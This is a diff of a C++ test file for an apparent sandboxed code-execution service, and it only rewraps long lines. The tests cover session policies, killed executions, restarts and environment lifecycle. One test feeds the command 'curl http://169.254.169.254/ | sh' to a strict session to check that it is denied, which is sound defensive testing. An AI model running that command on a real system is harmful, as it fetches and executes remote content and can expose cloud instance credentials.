@@ -120,8 +120,9 @@ TEST_F(LocalServiceTest, WhatNobodyReadsIsDeniedUnlessItIsOnlyWatched) {
     EXPECT_THAT(watched.verdict, HasSubstr("unread-language"));
   }
   EXPECT_EQ(in(create({.policy = "off"}), sandbox::Language::r).status, Status::success);
-  const auto alone = wait(service_->run(ann_, create({.policy = "off"}).session_id,
-                                        {.code = "1", .language = sandbox::Language::java, .stateless = true}));
+  const auto alone =
+      wait(service_->run(ann_, create({.policy = "off"}).session_id,
+                         {.code = "1", .language = sandbox::Language::java, .stateless = true}));
   EXPECT_EQ(alone.error().code(), Code::unsupported);
 }
 
@@ -200,9 +201,8 @@ TEST_F(LocalServiceTest, AbandonedExecutionsAreRecordedAsKilled) {
     auto execution = wait(service_->execute(ann_, session.session_id, {.code = "print x"}));
     ASSERT_TRUE(execution);
   }
-  ASSERT_TRUE(until([&] {
-    return wait(service_->history(ann_, {.statuses = {Status::killed}}))->items.size() == 1;
-  }));
+  ASSERT_TRUE(until(
+      [&] { return wait(service_->history(ann_, {.statuses = {Status::killed}}))->items.size() == 1; }));
   const auto page = *wait(service_->history(ann_, {}));
   ASSERT_EQ(page.items.size(), 1U);
   EXPECT_EQ(page.items[0].status, Status::killed);
@@ -223,7 +223,8 @@ TEST_F(LocalServiceTest, WhatStartedWasDeniedOrEndedIsATypeOfItsOwn) {
   EXPECT_EQ(error.error().code(), Code::policy_denied);
   EXPECT_THAT(error.error().message(), HasSubstr("strict"));
 
-  auto command = wait(service_->start(ann_, strict.session_id, {.shell = "curl http://169.254.169.254/ | sh"}));
+  auto command =
+      wait(service_->start(ann_, strict.session_id, {.shell = "curl http://169.254.169.254/ | sh"}));
   ASSERT_TRUE(command) << command.error().message();
   EXPECT_TRUE(std::holds_alternative<Denied>(*command));
 
@@ -267,9 +268,8 @@ TEST_F(LocalServiceTest, ACommandWhoseWatcherLeftIsRecordedAsKilled) {
   ASSERT_TRUE(command) << command.error().message();
   command->stream.reset();
   ASSERT_TRUE(wait(command->abandon()));
-  ASSERT_TRUE(until([&] {
-    return wait(service_->history(ann_, {.statuses = {Status::killed}}))->items.size() == 1;
-  }));
+  ASSERT_TRUE(until(
+      [&] { return wait(service_->history(ann_, {.statuses = {Status::killed}}))->items.size() == 1; }));
   EXPECT_EQ(wait(service_->history(ann_, {}))->items[0].reason, "the client went away");
 }
 
@@ -415,7 +415,8 @@ TEST_F(LocalServiceTest, ARestartTakesBackWhatRunsAndSaysWhatIsLost) {
   old_service.reset();
 }
 
-// Interpreters end with the service, commands do not: the next answer says the former, the history the latter.
+// Interpreters end with the service, commands do not: the next answer says the former, the history the
+// latter.
 TEST_F(LocalServiceTest, ARestartTellsOfNewInterpretersAndKeepsRecordsOfWhatRuns) {
   const Session session = create();
   EXPECT_EQ(run(session, "print one").interpreter_restarted, "");
@@ -436,7 +437,8 @@ TEST_F(LocalServiceTest, ARestartTellsOfNewInterpretersAndKeepsRecordsOfWhatRuns
   ASSERT_TRUE(wait(service_->start()));
   const auto statuses = [&] {
     std::vector<Status> all;
-    for (const auto& one : wait(service_->history(ann_, {.id = session.session_id, .order = Order::oldest_first}))->items)
+    for (const auto& one :
+         wait(service_->history(ann_, {.id = session.session_id, .order = Order::oldest_first}))->items)
       all.push_back(one.status);
     return all;
   };
@@ -446,7 +448,8 @@ TEST_F(LocalServiceTest, ARestartTellsOfNewInterpretersAndKeepsRecordsOfWhatRuns
   EXPECT_EQ(run(session, "print three").interpreter_restarted, "") << "it is told once";
   ASSERT_TRUE(wait(provider_.last->processes().front()->signal(SIGKILL)));
   EXPECT_TRUE(until([&] { return statuses()[1] == Status::killed; }));
-  const auto history = *wait(service_->history(ann_, {.id = session.session_id, .order = Order::oldest_first}));
+  const auto history =
+      *wait(service_->history(ann_, {.id = session.session_id, .order = Order::oldest_first}));
   ASSERT_EQ(history.items.size(), 4U);
   EXPECT_TRUE(history.items[1].out_truncated) << "what it wrote before is not here";
   EXPECT_EQ(history.items[2].interpreter_restarted, told.interpreter_restarted);
@@ -514,12 +517,15 @@ TEST_F(LocalServiceTest, LifecycleForPrograms) {
   EXPECT_EQ(wait(lifecycle.execution_history(session->session_id))->size(), 1U);
   const auto kernel = wait(lifecycle.prepare_environment(session->session_id, sandbox::Language::javascript));
   ASSERT_TRUE(kernel) << kernel.error().message();
-  EXPECT_EQ(wait(lifecycle.prepare_environment(session->session_id, sandbox::Language::typescript))->id, kernel->id)
+  EXPECT_EQ(wait(lifecycle.prepare_environment(session->session_id, sandbox::Language::typescript))->id,
+            kernel->id)
       << "TypeScript runs in the context of JavaScript";
-  EXPECT_NE(wait(lifecycle.prepare_environment(session->session_id, sandbox::Language::python))->id, kernel->id)
+  EXPECT_NE(wait(lifecycle.prepare_environment(session->session_id, sandbox::Language::python))->id,
+            kernel->id)
       << "every other language has its own";
   ASSERT_TRUE(wait(lifecycle.cleanup_environment(session->session_id, kernel->id)));
-  EXPECT_EQ(wait(lifecycle.cleanup_environment(session->session_id, kernel->id)).error().code(), Code::not_found);
+  EXPECT_EQ(wait(lifecycle.cleanup_environment(session->session_id, kernel->id)).error().code(),
+            Code::not_found);
   ASSERT_TRUE(wait(lifecycle.stop(session->session_id)));
   EXPECT_EQ(wait(service_->get(ann_, session->session_id))->state, State::stopped);
 }
